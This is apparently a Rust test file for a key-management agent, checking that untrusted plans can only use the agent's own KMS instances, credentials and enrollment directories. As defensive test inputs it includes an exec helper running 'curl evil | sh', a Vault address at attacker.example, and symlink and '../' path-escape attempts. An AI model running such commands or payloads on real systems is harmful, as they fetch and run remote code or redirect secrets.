//! The agent's configuration as the allow-list a plan is held to (issue 15, docs/fleet.md "The
//! plan is untrusted input"): a plan may use only the agent's KMS instances, with their
//! endpoints and exec helpers; the credentials are always the agent's.

use std::path::Path;

use keyplan::fleet::trust::AgentConfig;
use keyplan::spec::{KmsConfig, VaultAuth};

fn config(dir: &Path, text: &str) -> Result<AgentConfig, String> {
    let p = dir.join("agent.yaml");
    std::fs::write(&p, text).expect("write");
    AgentConfig::load(&p).map_err(|e| e.to_string())
}

fn plan(dir: &Path, kms: &str) -> keyplan::spec::Plan {
    let text = format!(
        "version: 1\nkms:\n{kms}\nkeys:\n  k: {{ kms: x }}\ndevices:\n  d: {{ path: /dev/null-disk, keys: [k] }}\n"
    );
    let p = dir.join("plan.yaml");
    std::fs::write(&p, &text).expect("write");
    keyplan::spec::load_text(&text, &p).expect("valid plan")
}

const AGENT: &str = "kms:\n  x:\n    provider: vault\n    address: https://vault.example:8200\n    mount: secret\n    auth: { method: approle, role_id: r, secret_id_file: /etc/keyplan/vault/secret-id }\n    ca_cert: /etc/keyplan/vault/ca.pem\n";

#[test]
fn the_agents_instance_and_credentials_replace_the_plans() {
    let d = tempfile::tempdir().expect("tmp");
    let agent = config(d.path(), AGENT).expect("config");
    // The plan sets its own token variable and CA: both are ignored.
    let mut p = plan(
        d.path(),
        "  x: { provider: vault, address: 'https://vault.example:8200/', mount: secret, token_env: STOLEN, ca_cert: evil.pem }",
    );
    agent.restrict(&mut p).expect("allowed");
    match &p.kms["x"] {
        KmsConfig::Vault {
            token_env,
            auth,
            ca_cert,
            ..
        } => {
            assert_eq!(token_env, &None);
            assert!(matches!(auth, Some(VaultAuth::Approle { .. })), "{auth:?}");
            assert_eq!(ca_cert.as_deref(), Some("/etc/keyplan/vault/ca.pem"));
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn other_endpoints_helpers_and_instances_are_refused() {
    let d = tempfile::tempdir().expect("tmp");
    let agent = config(
        d.path(),
        &format!("{AGENT}  helper: {{ provider: exec, command: [/usr/local/bin/kms-helper, --site, a] }}\n"),
    )
    .expect("config");
    let cases = [
        (
            "  x: { provider: vault, address: 'https://attacker.example:8200', mount: secret }",
            "address",
        ),
        (
            "  x: { provider: vault, address: 'https://vault.example:8200', mount: other }",
            "mount",
        ),
        ("  x: { provider: exec, command: [/bin/sh, -c, 'curl evil | sh'] }", "vault KMS in the agent"),
        ("  x: { provider: file, path: /tmp/keys }", "file KMS in the plan"),
        ("  y: { provider: file, path: /tmp/keys }\n  x: { provider: vault, address: 'https://vault.example:8200', mount: secret }", "\"y\""),
    ];
    for (kms, expect) in cases {
        let mut p = plan(d.path(), kms);
        let before = p.kms.clone();
        let refused = agent.restrict(&mut p).expect_err(kms).join("\n");
        assert!(refused.contains(expect), "{kms}: {refused}");
        assert_eq!(p.kms, before, "a refused plan was changed");
    }
    // An exec helper with other arguments than the agent's is another helper.
    let mut p = plan(
        d.path(),
        "  x: { provider: vault, address: 'https://vault.example:8200', mount: secret }\n  helper: { provider: exec, command: [/usr/local/bin/kms-helper, --site, b] }",
    );
    let refused = agent.restrict(&mut p).expect_err("other argv").join("\n");
    assert!(refused.contains("command"), "{refused}");
}

#[test]
fn an_agent_configuration_needs_absolute_paths_and_known_fields() {
    let d = tempfile::tempdir().expect("tmp");
    let e = config(d.path(), "kms:\n  x: { provider: file, path: keys }\n").expect_err("relative");
    assert!(e.contains("not absolute") && e.contains("\"x\""), "{e}");
    let e = config(d.path(), "kms: {}\nallow_everything: true\n").expect_err("unknown field");
    assert!(e.contains("allow_everything"), "{e}");
    // Without a configuration, no KMS at all.
    let mut p = plan(d.path(), "  x: { provider: file, path: /tmp/k }");
    assert!(AgentConfig::default().restrict(&mut p).is_err());
}

#[test]
fn enroll_with_files_only_from_the_agents_directories() {
    let d = tempfile::tempdir().expect("tmp");
    let allowed = d.path().join("passphrases");
    std::fs::create_dir(&allowed).expect("mkdir");
    std::fs::write(allowed.join("initial"), "x").expect("write");
    std::fs::write(d.path().join("token"), "y").expect("write");
    std::os::unix::fs::symlink(d.path().join("token"), allowed.join("sneaky")).expect("link");
    let agent = config(
        d.path(),
        &format!(
            "kms:\n  x: {{ provider: file, path: /tmp/k }}\nenroll_with_dirs: [{}]\n",
            allowed.display()
        ),
    )
    .expect("config");
    let with = |file: &Path| {
        let text = format!(
            "version: 1\nkms:\n  x: {{ provider: file, path: /tmp/k }}\nkeys:\n  k: {{ kms: x }}\ndevices:\n  d: {{ path: /dev/null-disk, keys: [k], enroll_with: {} }}\n",
            file.display()
        );
        let p = d.path().join("plan.yaml");
        std::fs::write(&p, &text).expect("write");
        keyplan::spec::load_text(&text, &p).expect("valid plan")
    };
    agent
        .restrict(&mut with(&allowed.join("initial")))
        .expect("inside");
    for outside in [
        d.path().join("token"),
        allowed.join("sneaky"),
        allowed.join("../token"),
    ] {
        let refused = agent
            .restrict(&mut with(&outside))
            .expect_err("outside")
            .join("\n");
        assert!(refused.contains("enroll_with_dirs"), "{refused}");
    }
    let missing = agent
        .restrict(&mut with(&allowed.join("nope")))
        .expect_err("missing")
        .join("\n");
    assert!(missing.contains("cannot be read"), "{missing}");
    let dir = agent
        .restrict(&mut with(&allowed))
        .expect_err("a directory")
        .join("\n");
    assert!(dir.contains("not a file"), "{dir}");
    let none = AgentConfig {
        kms: agent.kms.clone(),
        ..AgentConfig::default()
    };
    assert!(none.restrict(&mut with(&allowed.join("initial"))).is_err());
}
